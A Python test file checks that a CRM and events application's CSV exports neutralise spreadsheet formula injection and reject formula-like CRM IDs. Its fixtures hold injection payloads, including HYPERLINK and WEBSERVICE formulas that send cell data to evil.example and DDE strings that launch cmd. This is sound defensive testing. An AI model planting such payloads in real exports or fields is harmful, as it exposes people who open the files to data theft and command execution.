"""CSV exports against spreadsheet formula injection: every file people open in Excel (event
roster, engagement table, CRM files) shows member text as text, as OWASP recommends.

Formula-looking names, accounts and owners go in through the real services; each export is
read back with the csv module and no cell may start with = + - @ tab or CR. The cells that hold
those values must be there, with the single quote that makes a spreadsheet show them as text.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from accounts.tables import Account
from core.spreadsheet import FORMULA_STARTS, guard_cell
from events.registration.allocation import register
from tests.crm.scores import put_score
from tests.events.event_helpers import new_event
from tests.factories import make_account, make_member
from tests.security.helpers import csv_bytes, sign_in
from tests.security.xss_corpus import shown_as_text
from tests.support import FormClient

EXFILTRATE = '=HYPERLINK("https://evil.example/?d="&A2,"詳細")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
OWNER = '=WEBSERVICE("https://evil.example/")'


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def guarded(rows: list[list[str]], *values: str) -> list[str]:
    """Each of `values` that is not in the file as a guarded cell ("'" + value)."""
    cells = {cell for row in rows for cell in row}
    return [value for value in values if "'" + value not in cells]


async def hostile_accounts() -> dict[str, Any]:
    """Two accounts and their members with formula-looking names, owned by such a CSM."""
    csm = await make_member(None, role="csm", email="csm@vendor.example", name=OWNER)
    first = await make_account(
        EXFILTRATE, domains="a.example", crm_external_id="001A", owner_id=csm.id
    )
    second = await make_account(DDE, domains="b.example", crm_external_id="001B")
    return {
        "csm": csm,
        "accounts": (first, second),
        "members": (
            await make_member(first, email="alice@a.example", name=SUM),
            await make_member(second, email="bob@b.example", name=MINUS),
        ),
    }


def test_the_guard_quotes_every_formula_start_and_leaves_numbers_alone():
    assert [guard_cell(v) for v in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", "\0=1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A1",
        "'\t=1",
        "'\r=1",
        "'\0=1",
    ]
    assert [guard_cell(v) for v in ("株式会社", "a=b", "", None, -5, 2.5)] == [
        "株式会社",
        "a=b",
        "",
        "",
        "-5",
        "2.5",
    ]


async def test_event_roster_csv_shows_formulas_as_text(client: FormClient, settings):
    people = await hostile_accounts()
    event_id = await new_event(people["csm"], capacity=10)
    for member in people["members"]:
        await register(member, event_id)
    await sign_in(client, people["csm"])
    response = await client.get(f"/staff/events/{event_id}/export.csv")
    assert response.status_code == 200
    rows = rows_of(response.content)
    assert formula_cells(rows) == []
    assert guarded(rows, EXFILTRATE, DDE, SUM, MINUS) == []


async def test_engagement_table_csv_shows_formulas_as_text(client: FormClient, settings):
    people = await hostile_accounts()
    for account in people["accounts"]:
        await put_score(account.id, score=40.0, band="yellow")
    await sign_in(client, people["csm"])
    response = await client.get("/staff/engagement/export.csv")
    assert response.status_code == 200
    rows = rows_of(response.content)
    assert formula_cells(rows) == []
    assert guarded(rows, EXFILTRATE, DDE, OWNER) == []


async def test_crm_exports_have_no_cell_a_spreadsheet_would_run(client: FormClient, settings):
    people = await hostile_accounts()
    for minute, account in enumerate(people["accounts"]):
        await put_score(account.id, minute=minute, score=40.0, band="yellow")
    admin = await make_member(None, role="admin", email="admin@vendor.example")
    await sign_in(client, admin)
    plain = await client.get("/staff/crm/export", params={"format": "csv"})
    assert plain.status_code == 200
    rows = rows_of(plain.content)
    assert formula_cells(rows) == []
    assert guarded(rows, EXFILTRATE, DDE) == []
    for machine in ("salesforce", "hubspot"):
        # Machine files carry values exactly as the CRM stores them (no quote is added), so
        # the only free text in them, the CRM id, may not start like a formula at all.
        response = await client.get("/staff/crm/export", params={"format": machine})
        assert response.status_code == 200, machine
        rows = rows_of(response.content)
        assert len(rows) == 3 and formula_cells(rows) == [], machine
        assert {row[0] for row in rows[1:]} == {"001A", "001B"}


@pytest.mark.parametrize("crm_id", ["=1+1", "+81", "-2", "@SUM(A1)", ' =HYPERLINK("x")'])
async def test_a_crm_id_that_starts_like_a_formula_is_refused(client, settings, crm_id):
    admin = await make_member(None, role="admin", email="admin@vendor.example")
    await sign_in(client, admin)
    form = await client.post_form(
        "/staff/accounts/new", {"name": "株式会社", "crm_external_id": crm_id}
    )
    assert form.status_code == 400
    assert "CRM ID は =、+、-、@ で始められません" in form.text
    content = csv_bytes(["name", "crm_id"], ["株式会社", crm_id])
    imported = await client.post_form(
        "/staff/accounts/import", files={"file": ("a.csv", content, "text/csv")}
    )
    assert imported.status_code == 400
    message = f"2行目: CRM ID「{crm_id.strip()}」が =、+、-、@ で始まっています"
    assert shown_as_text(imported.text, message)
    assert await Account.count() == 0
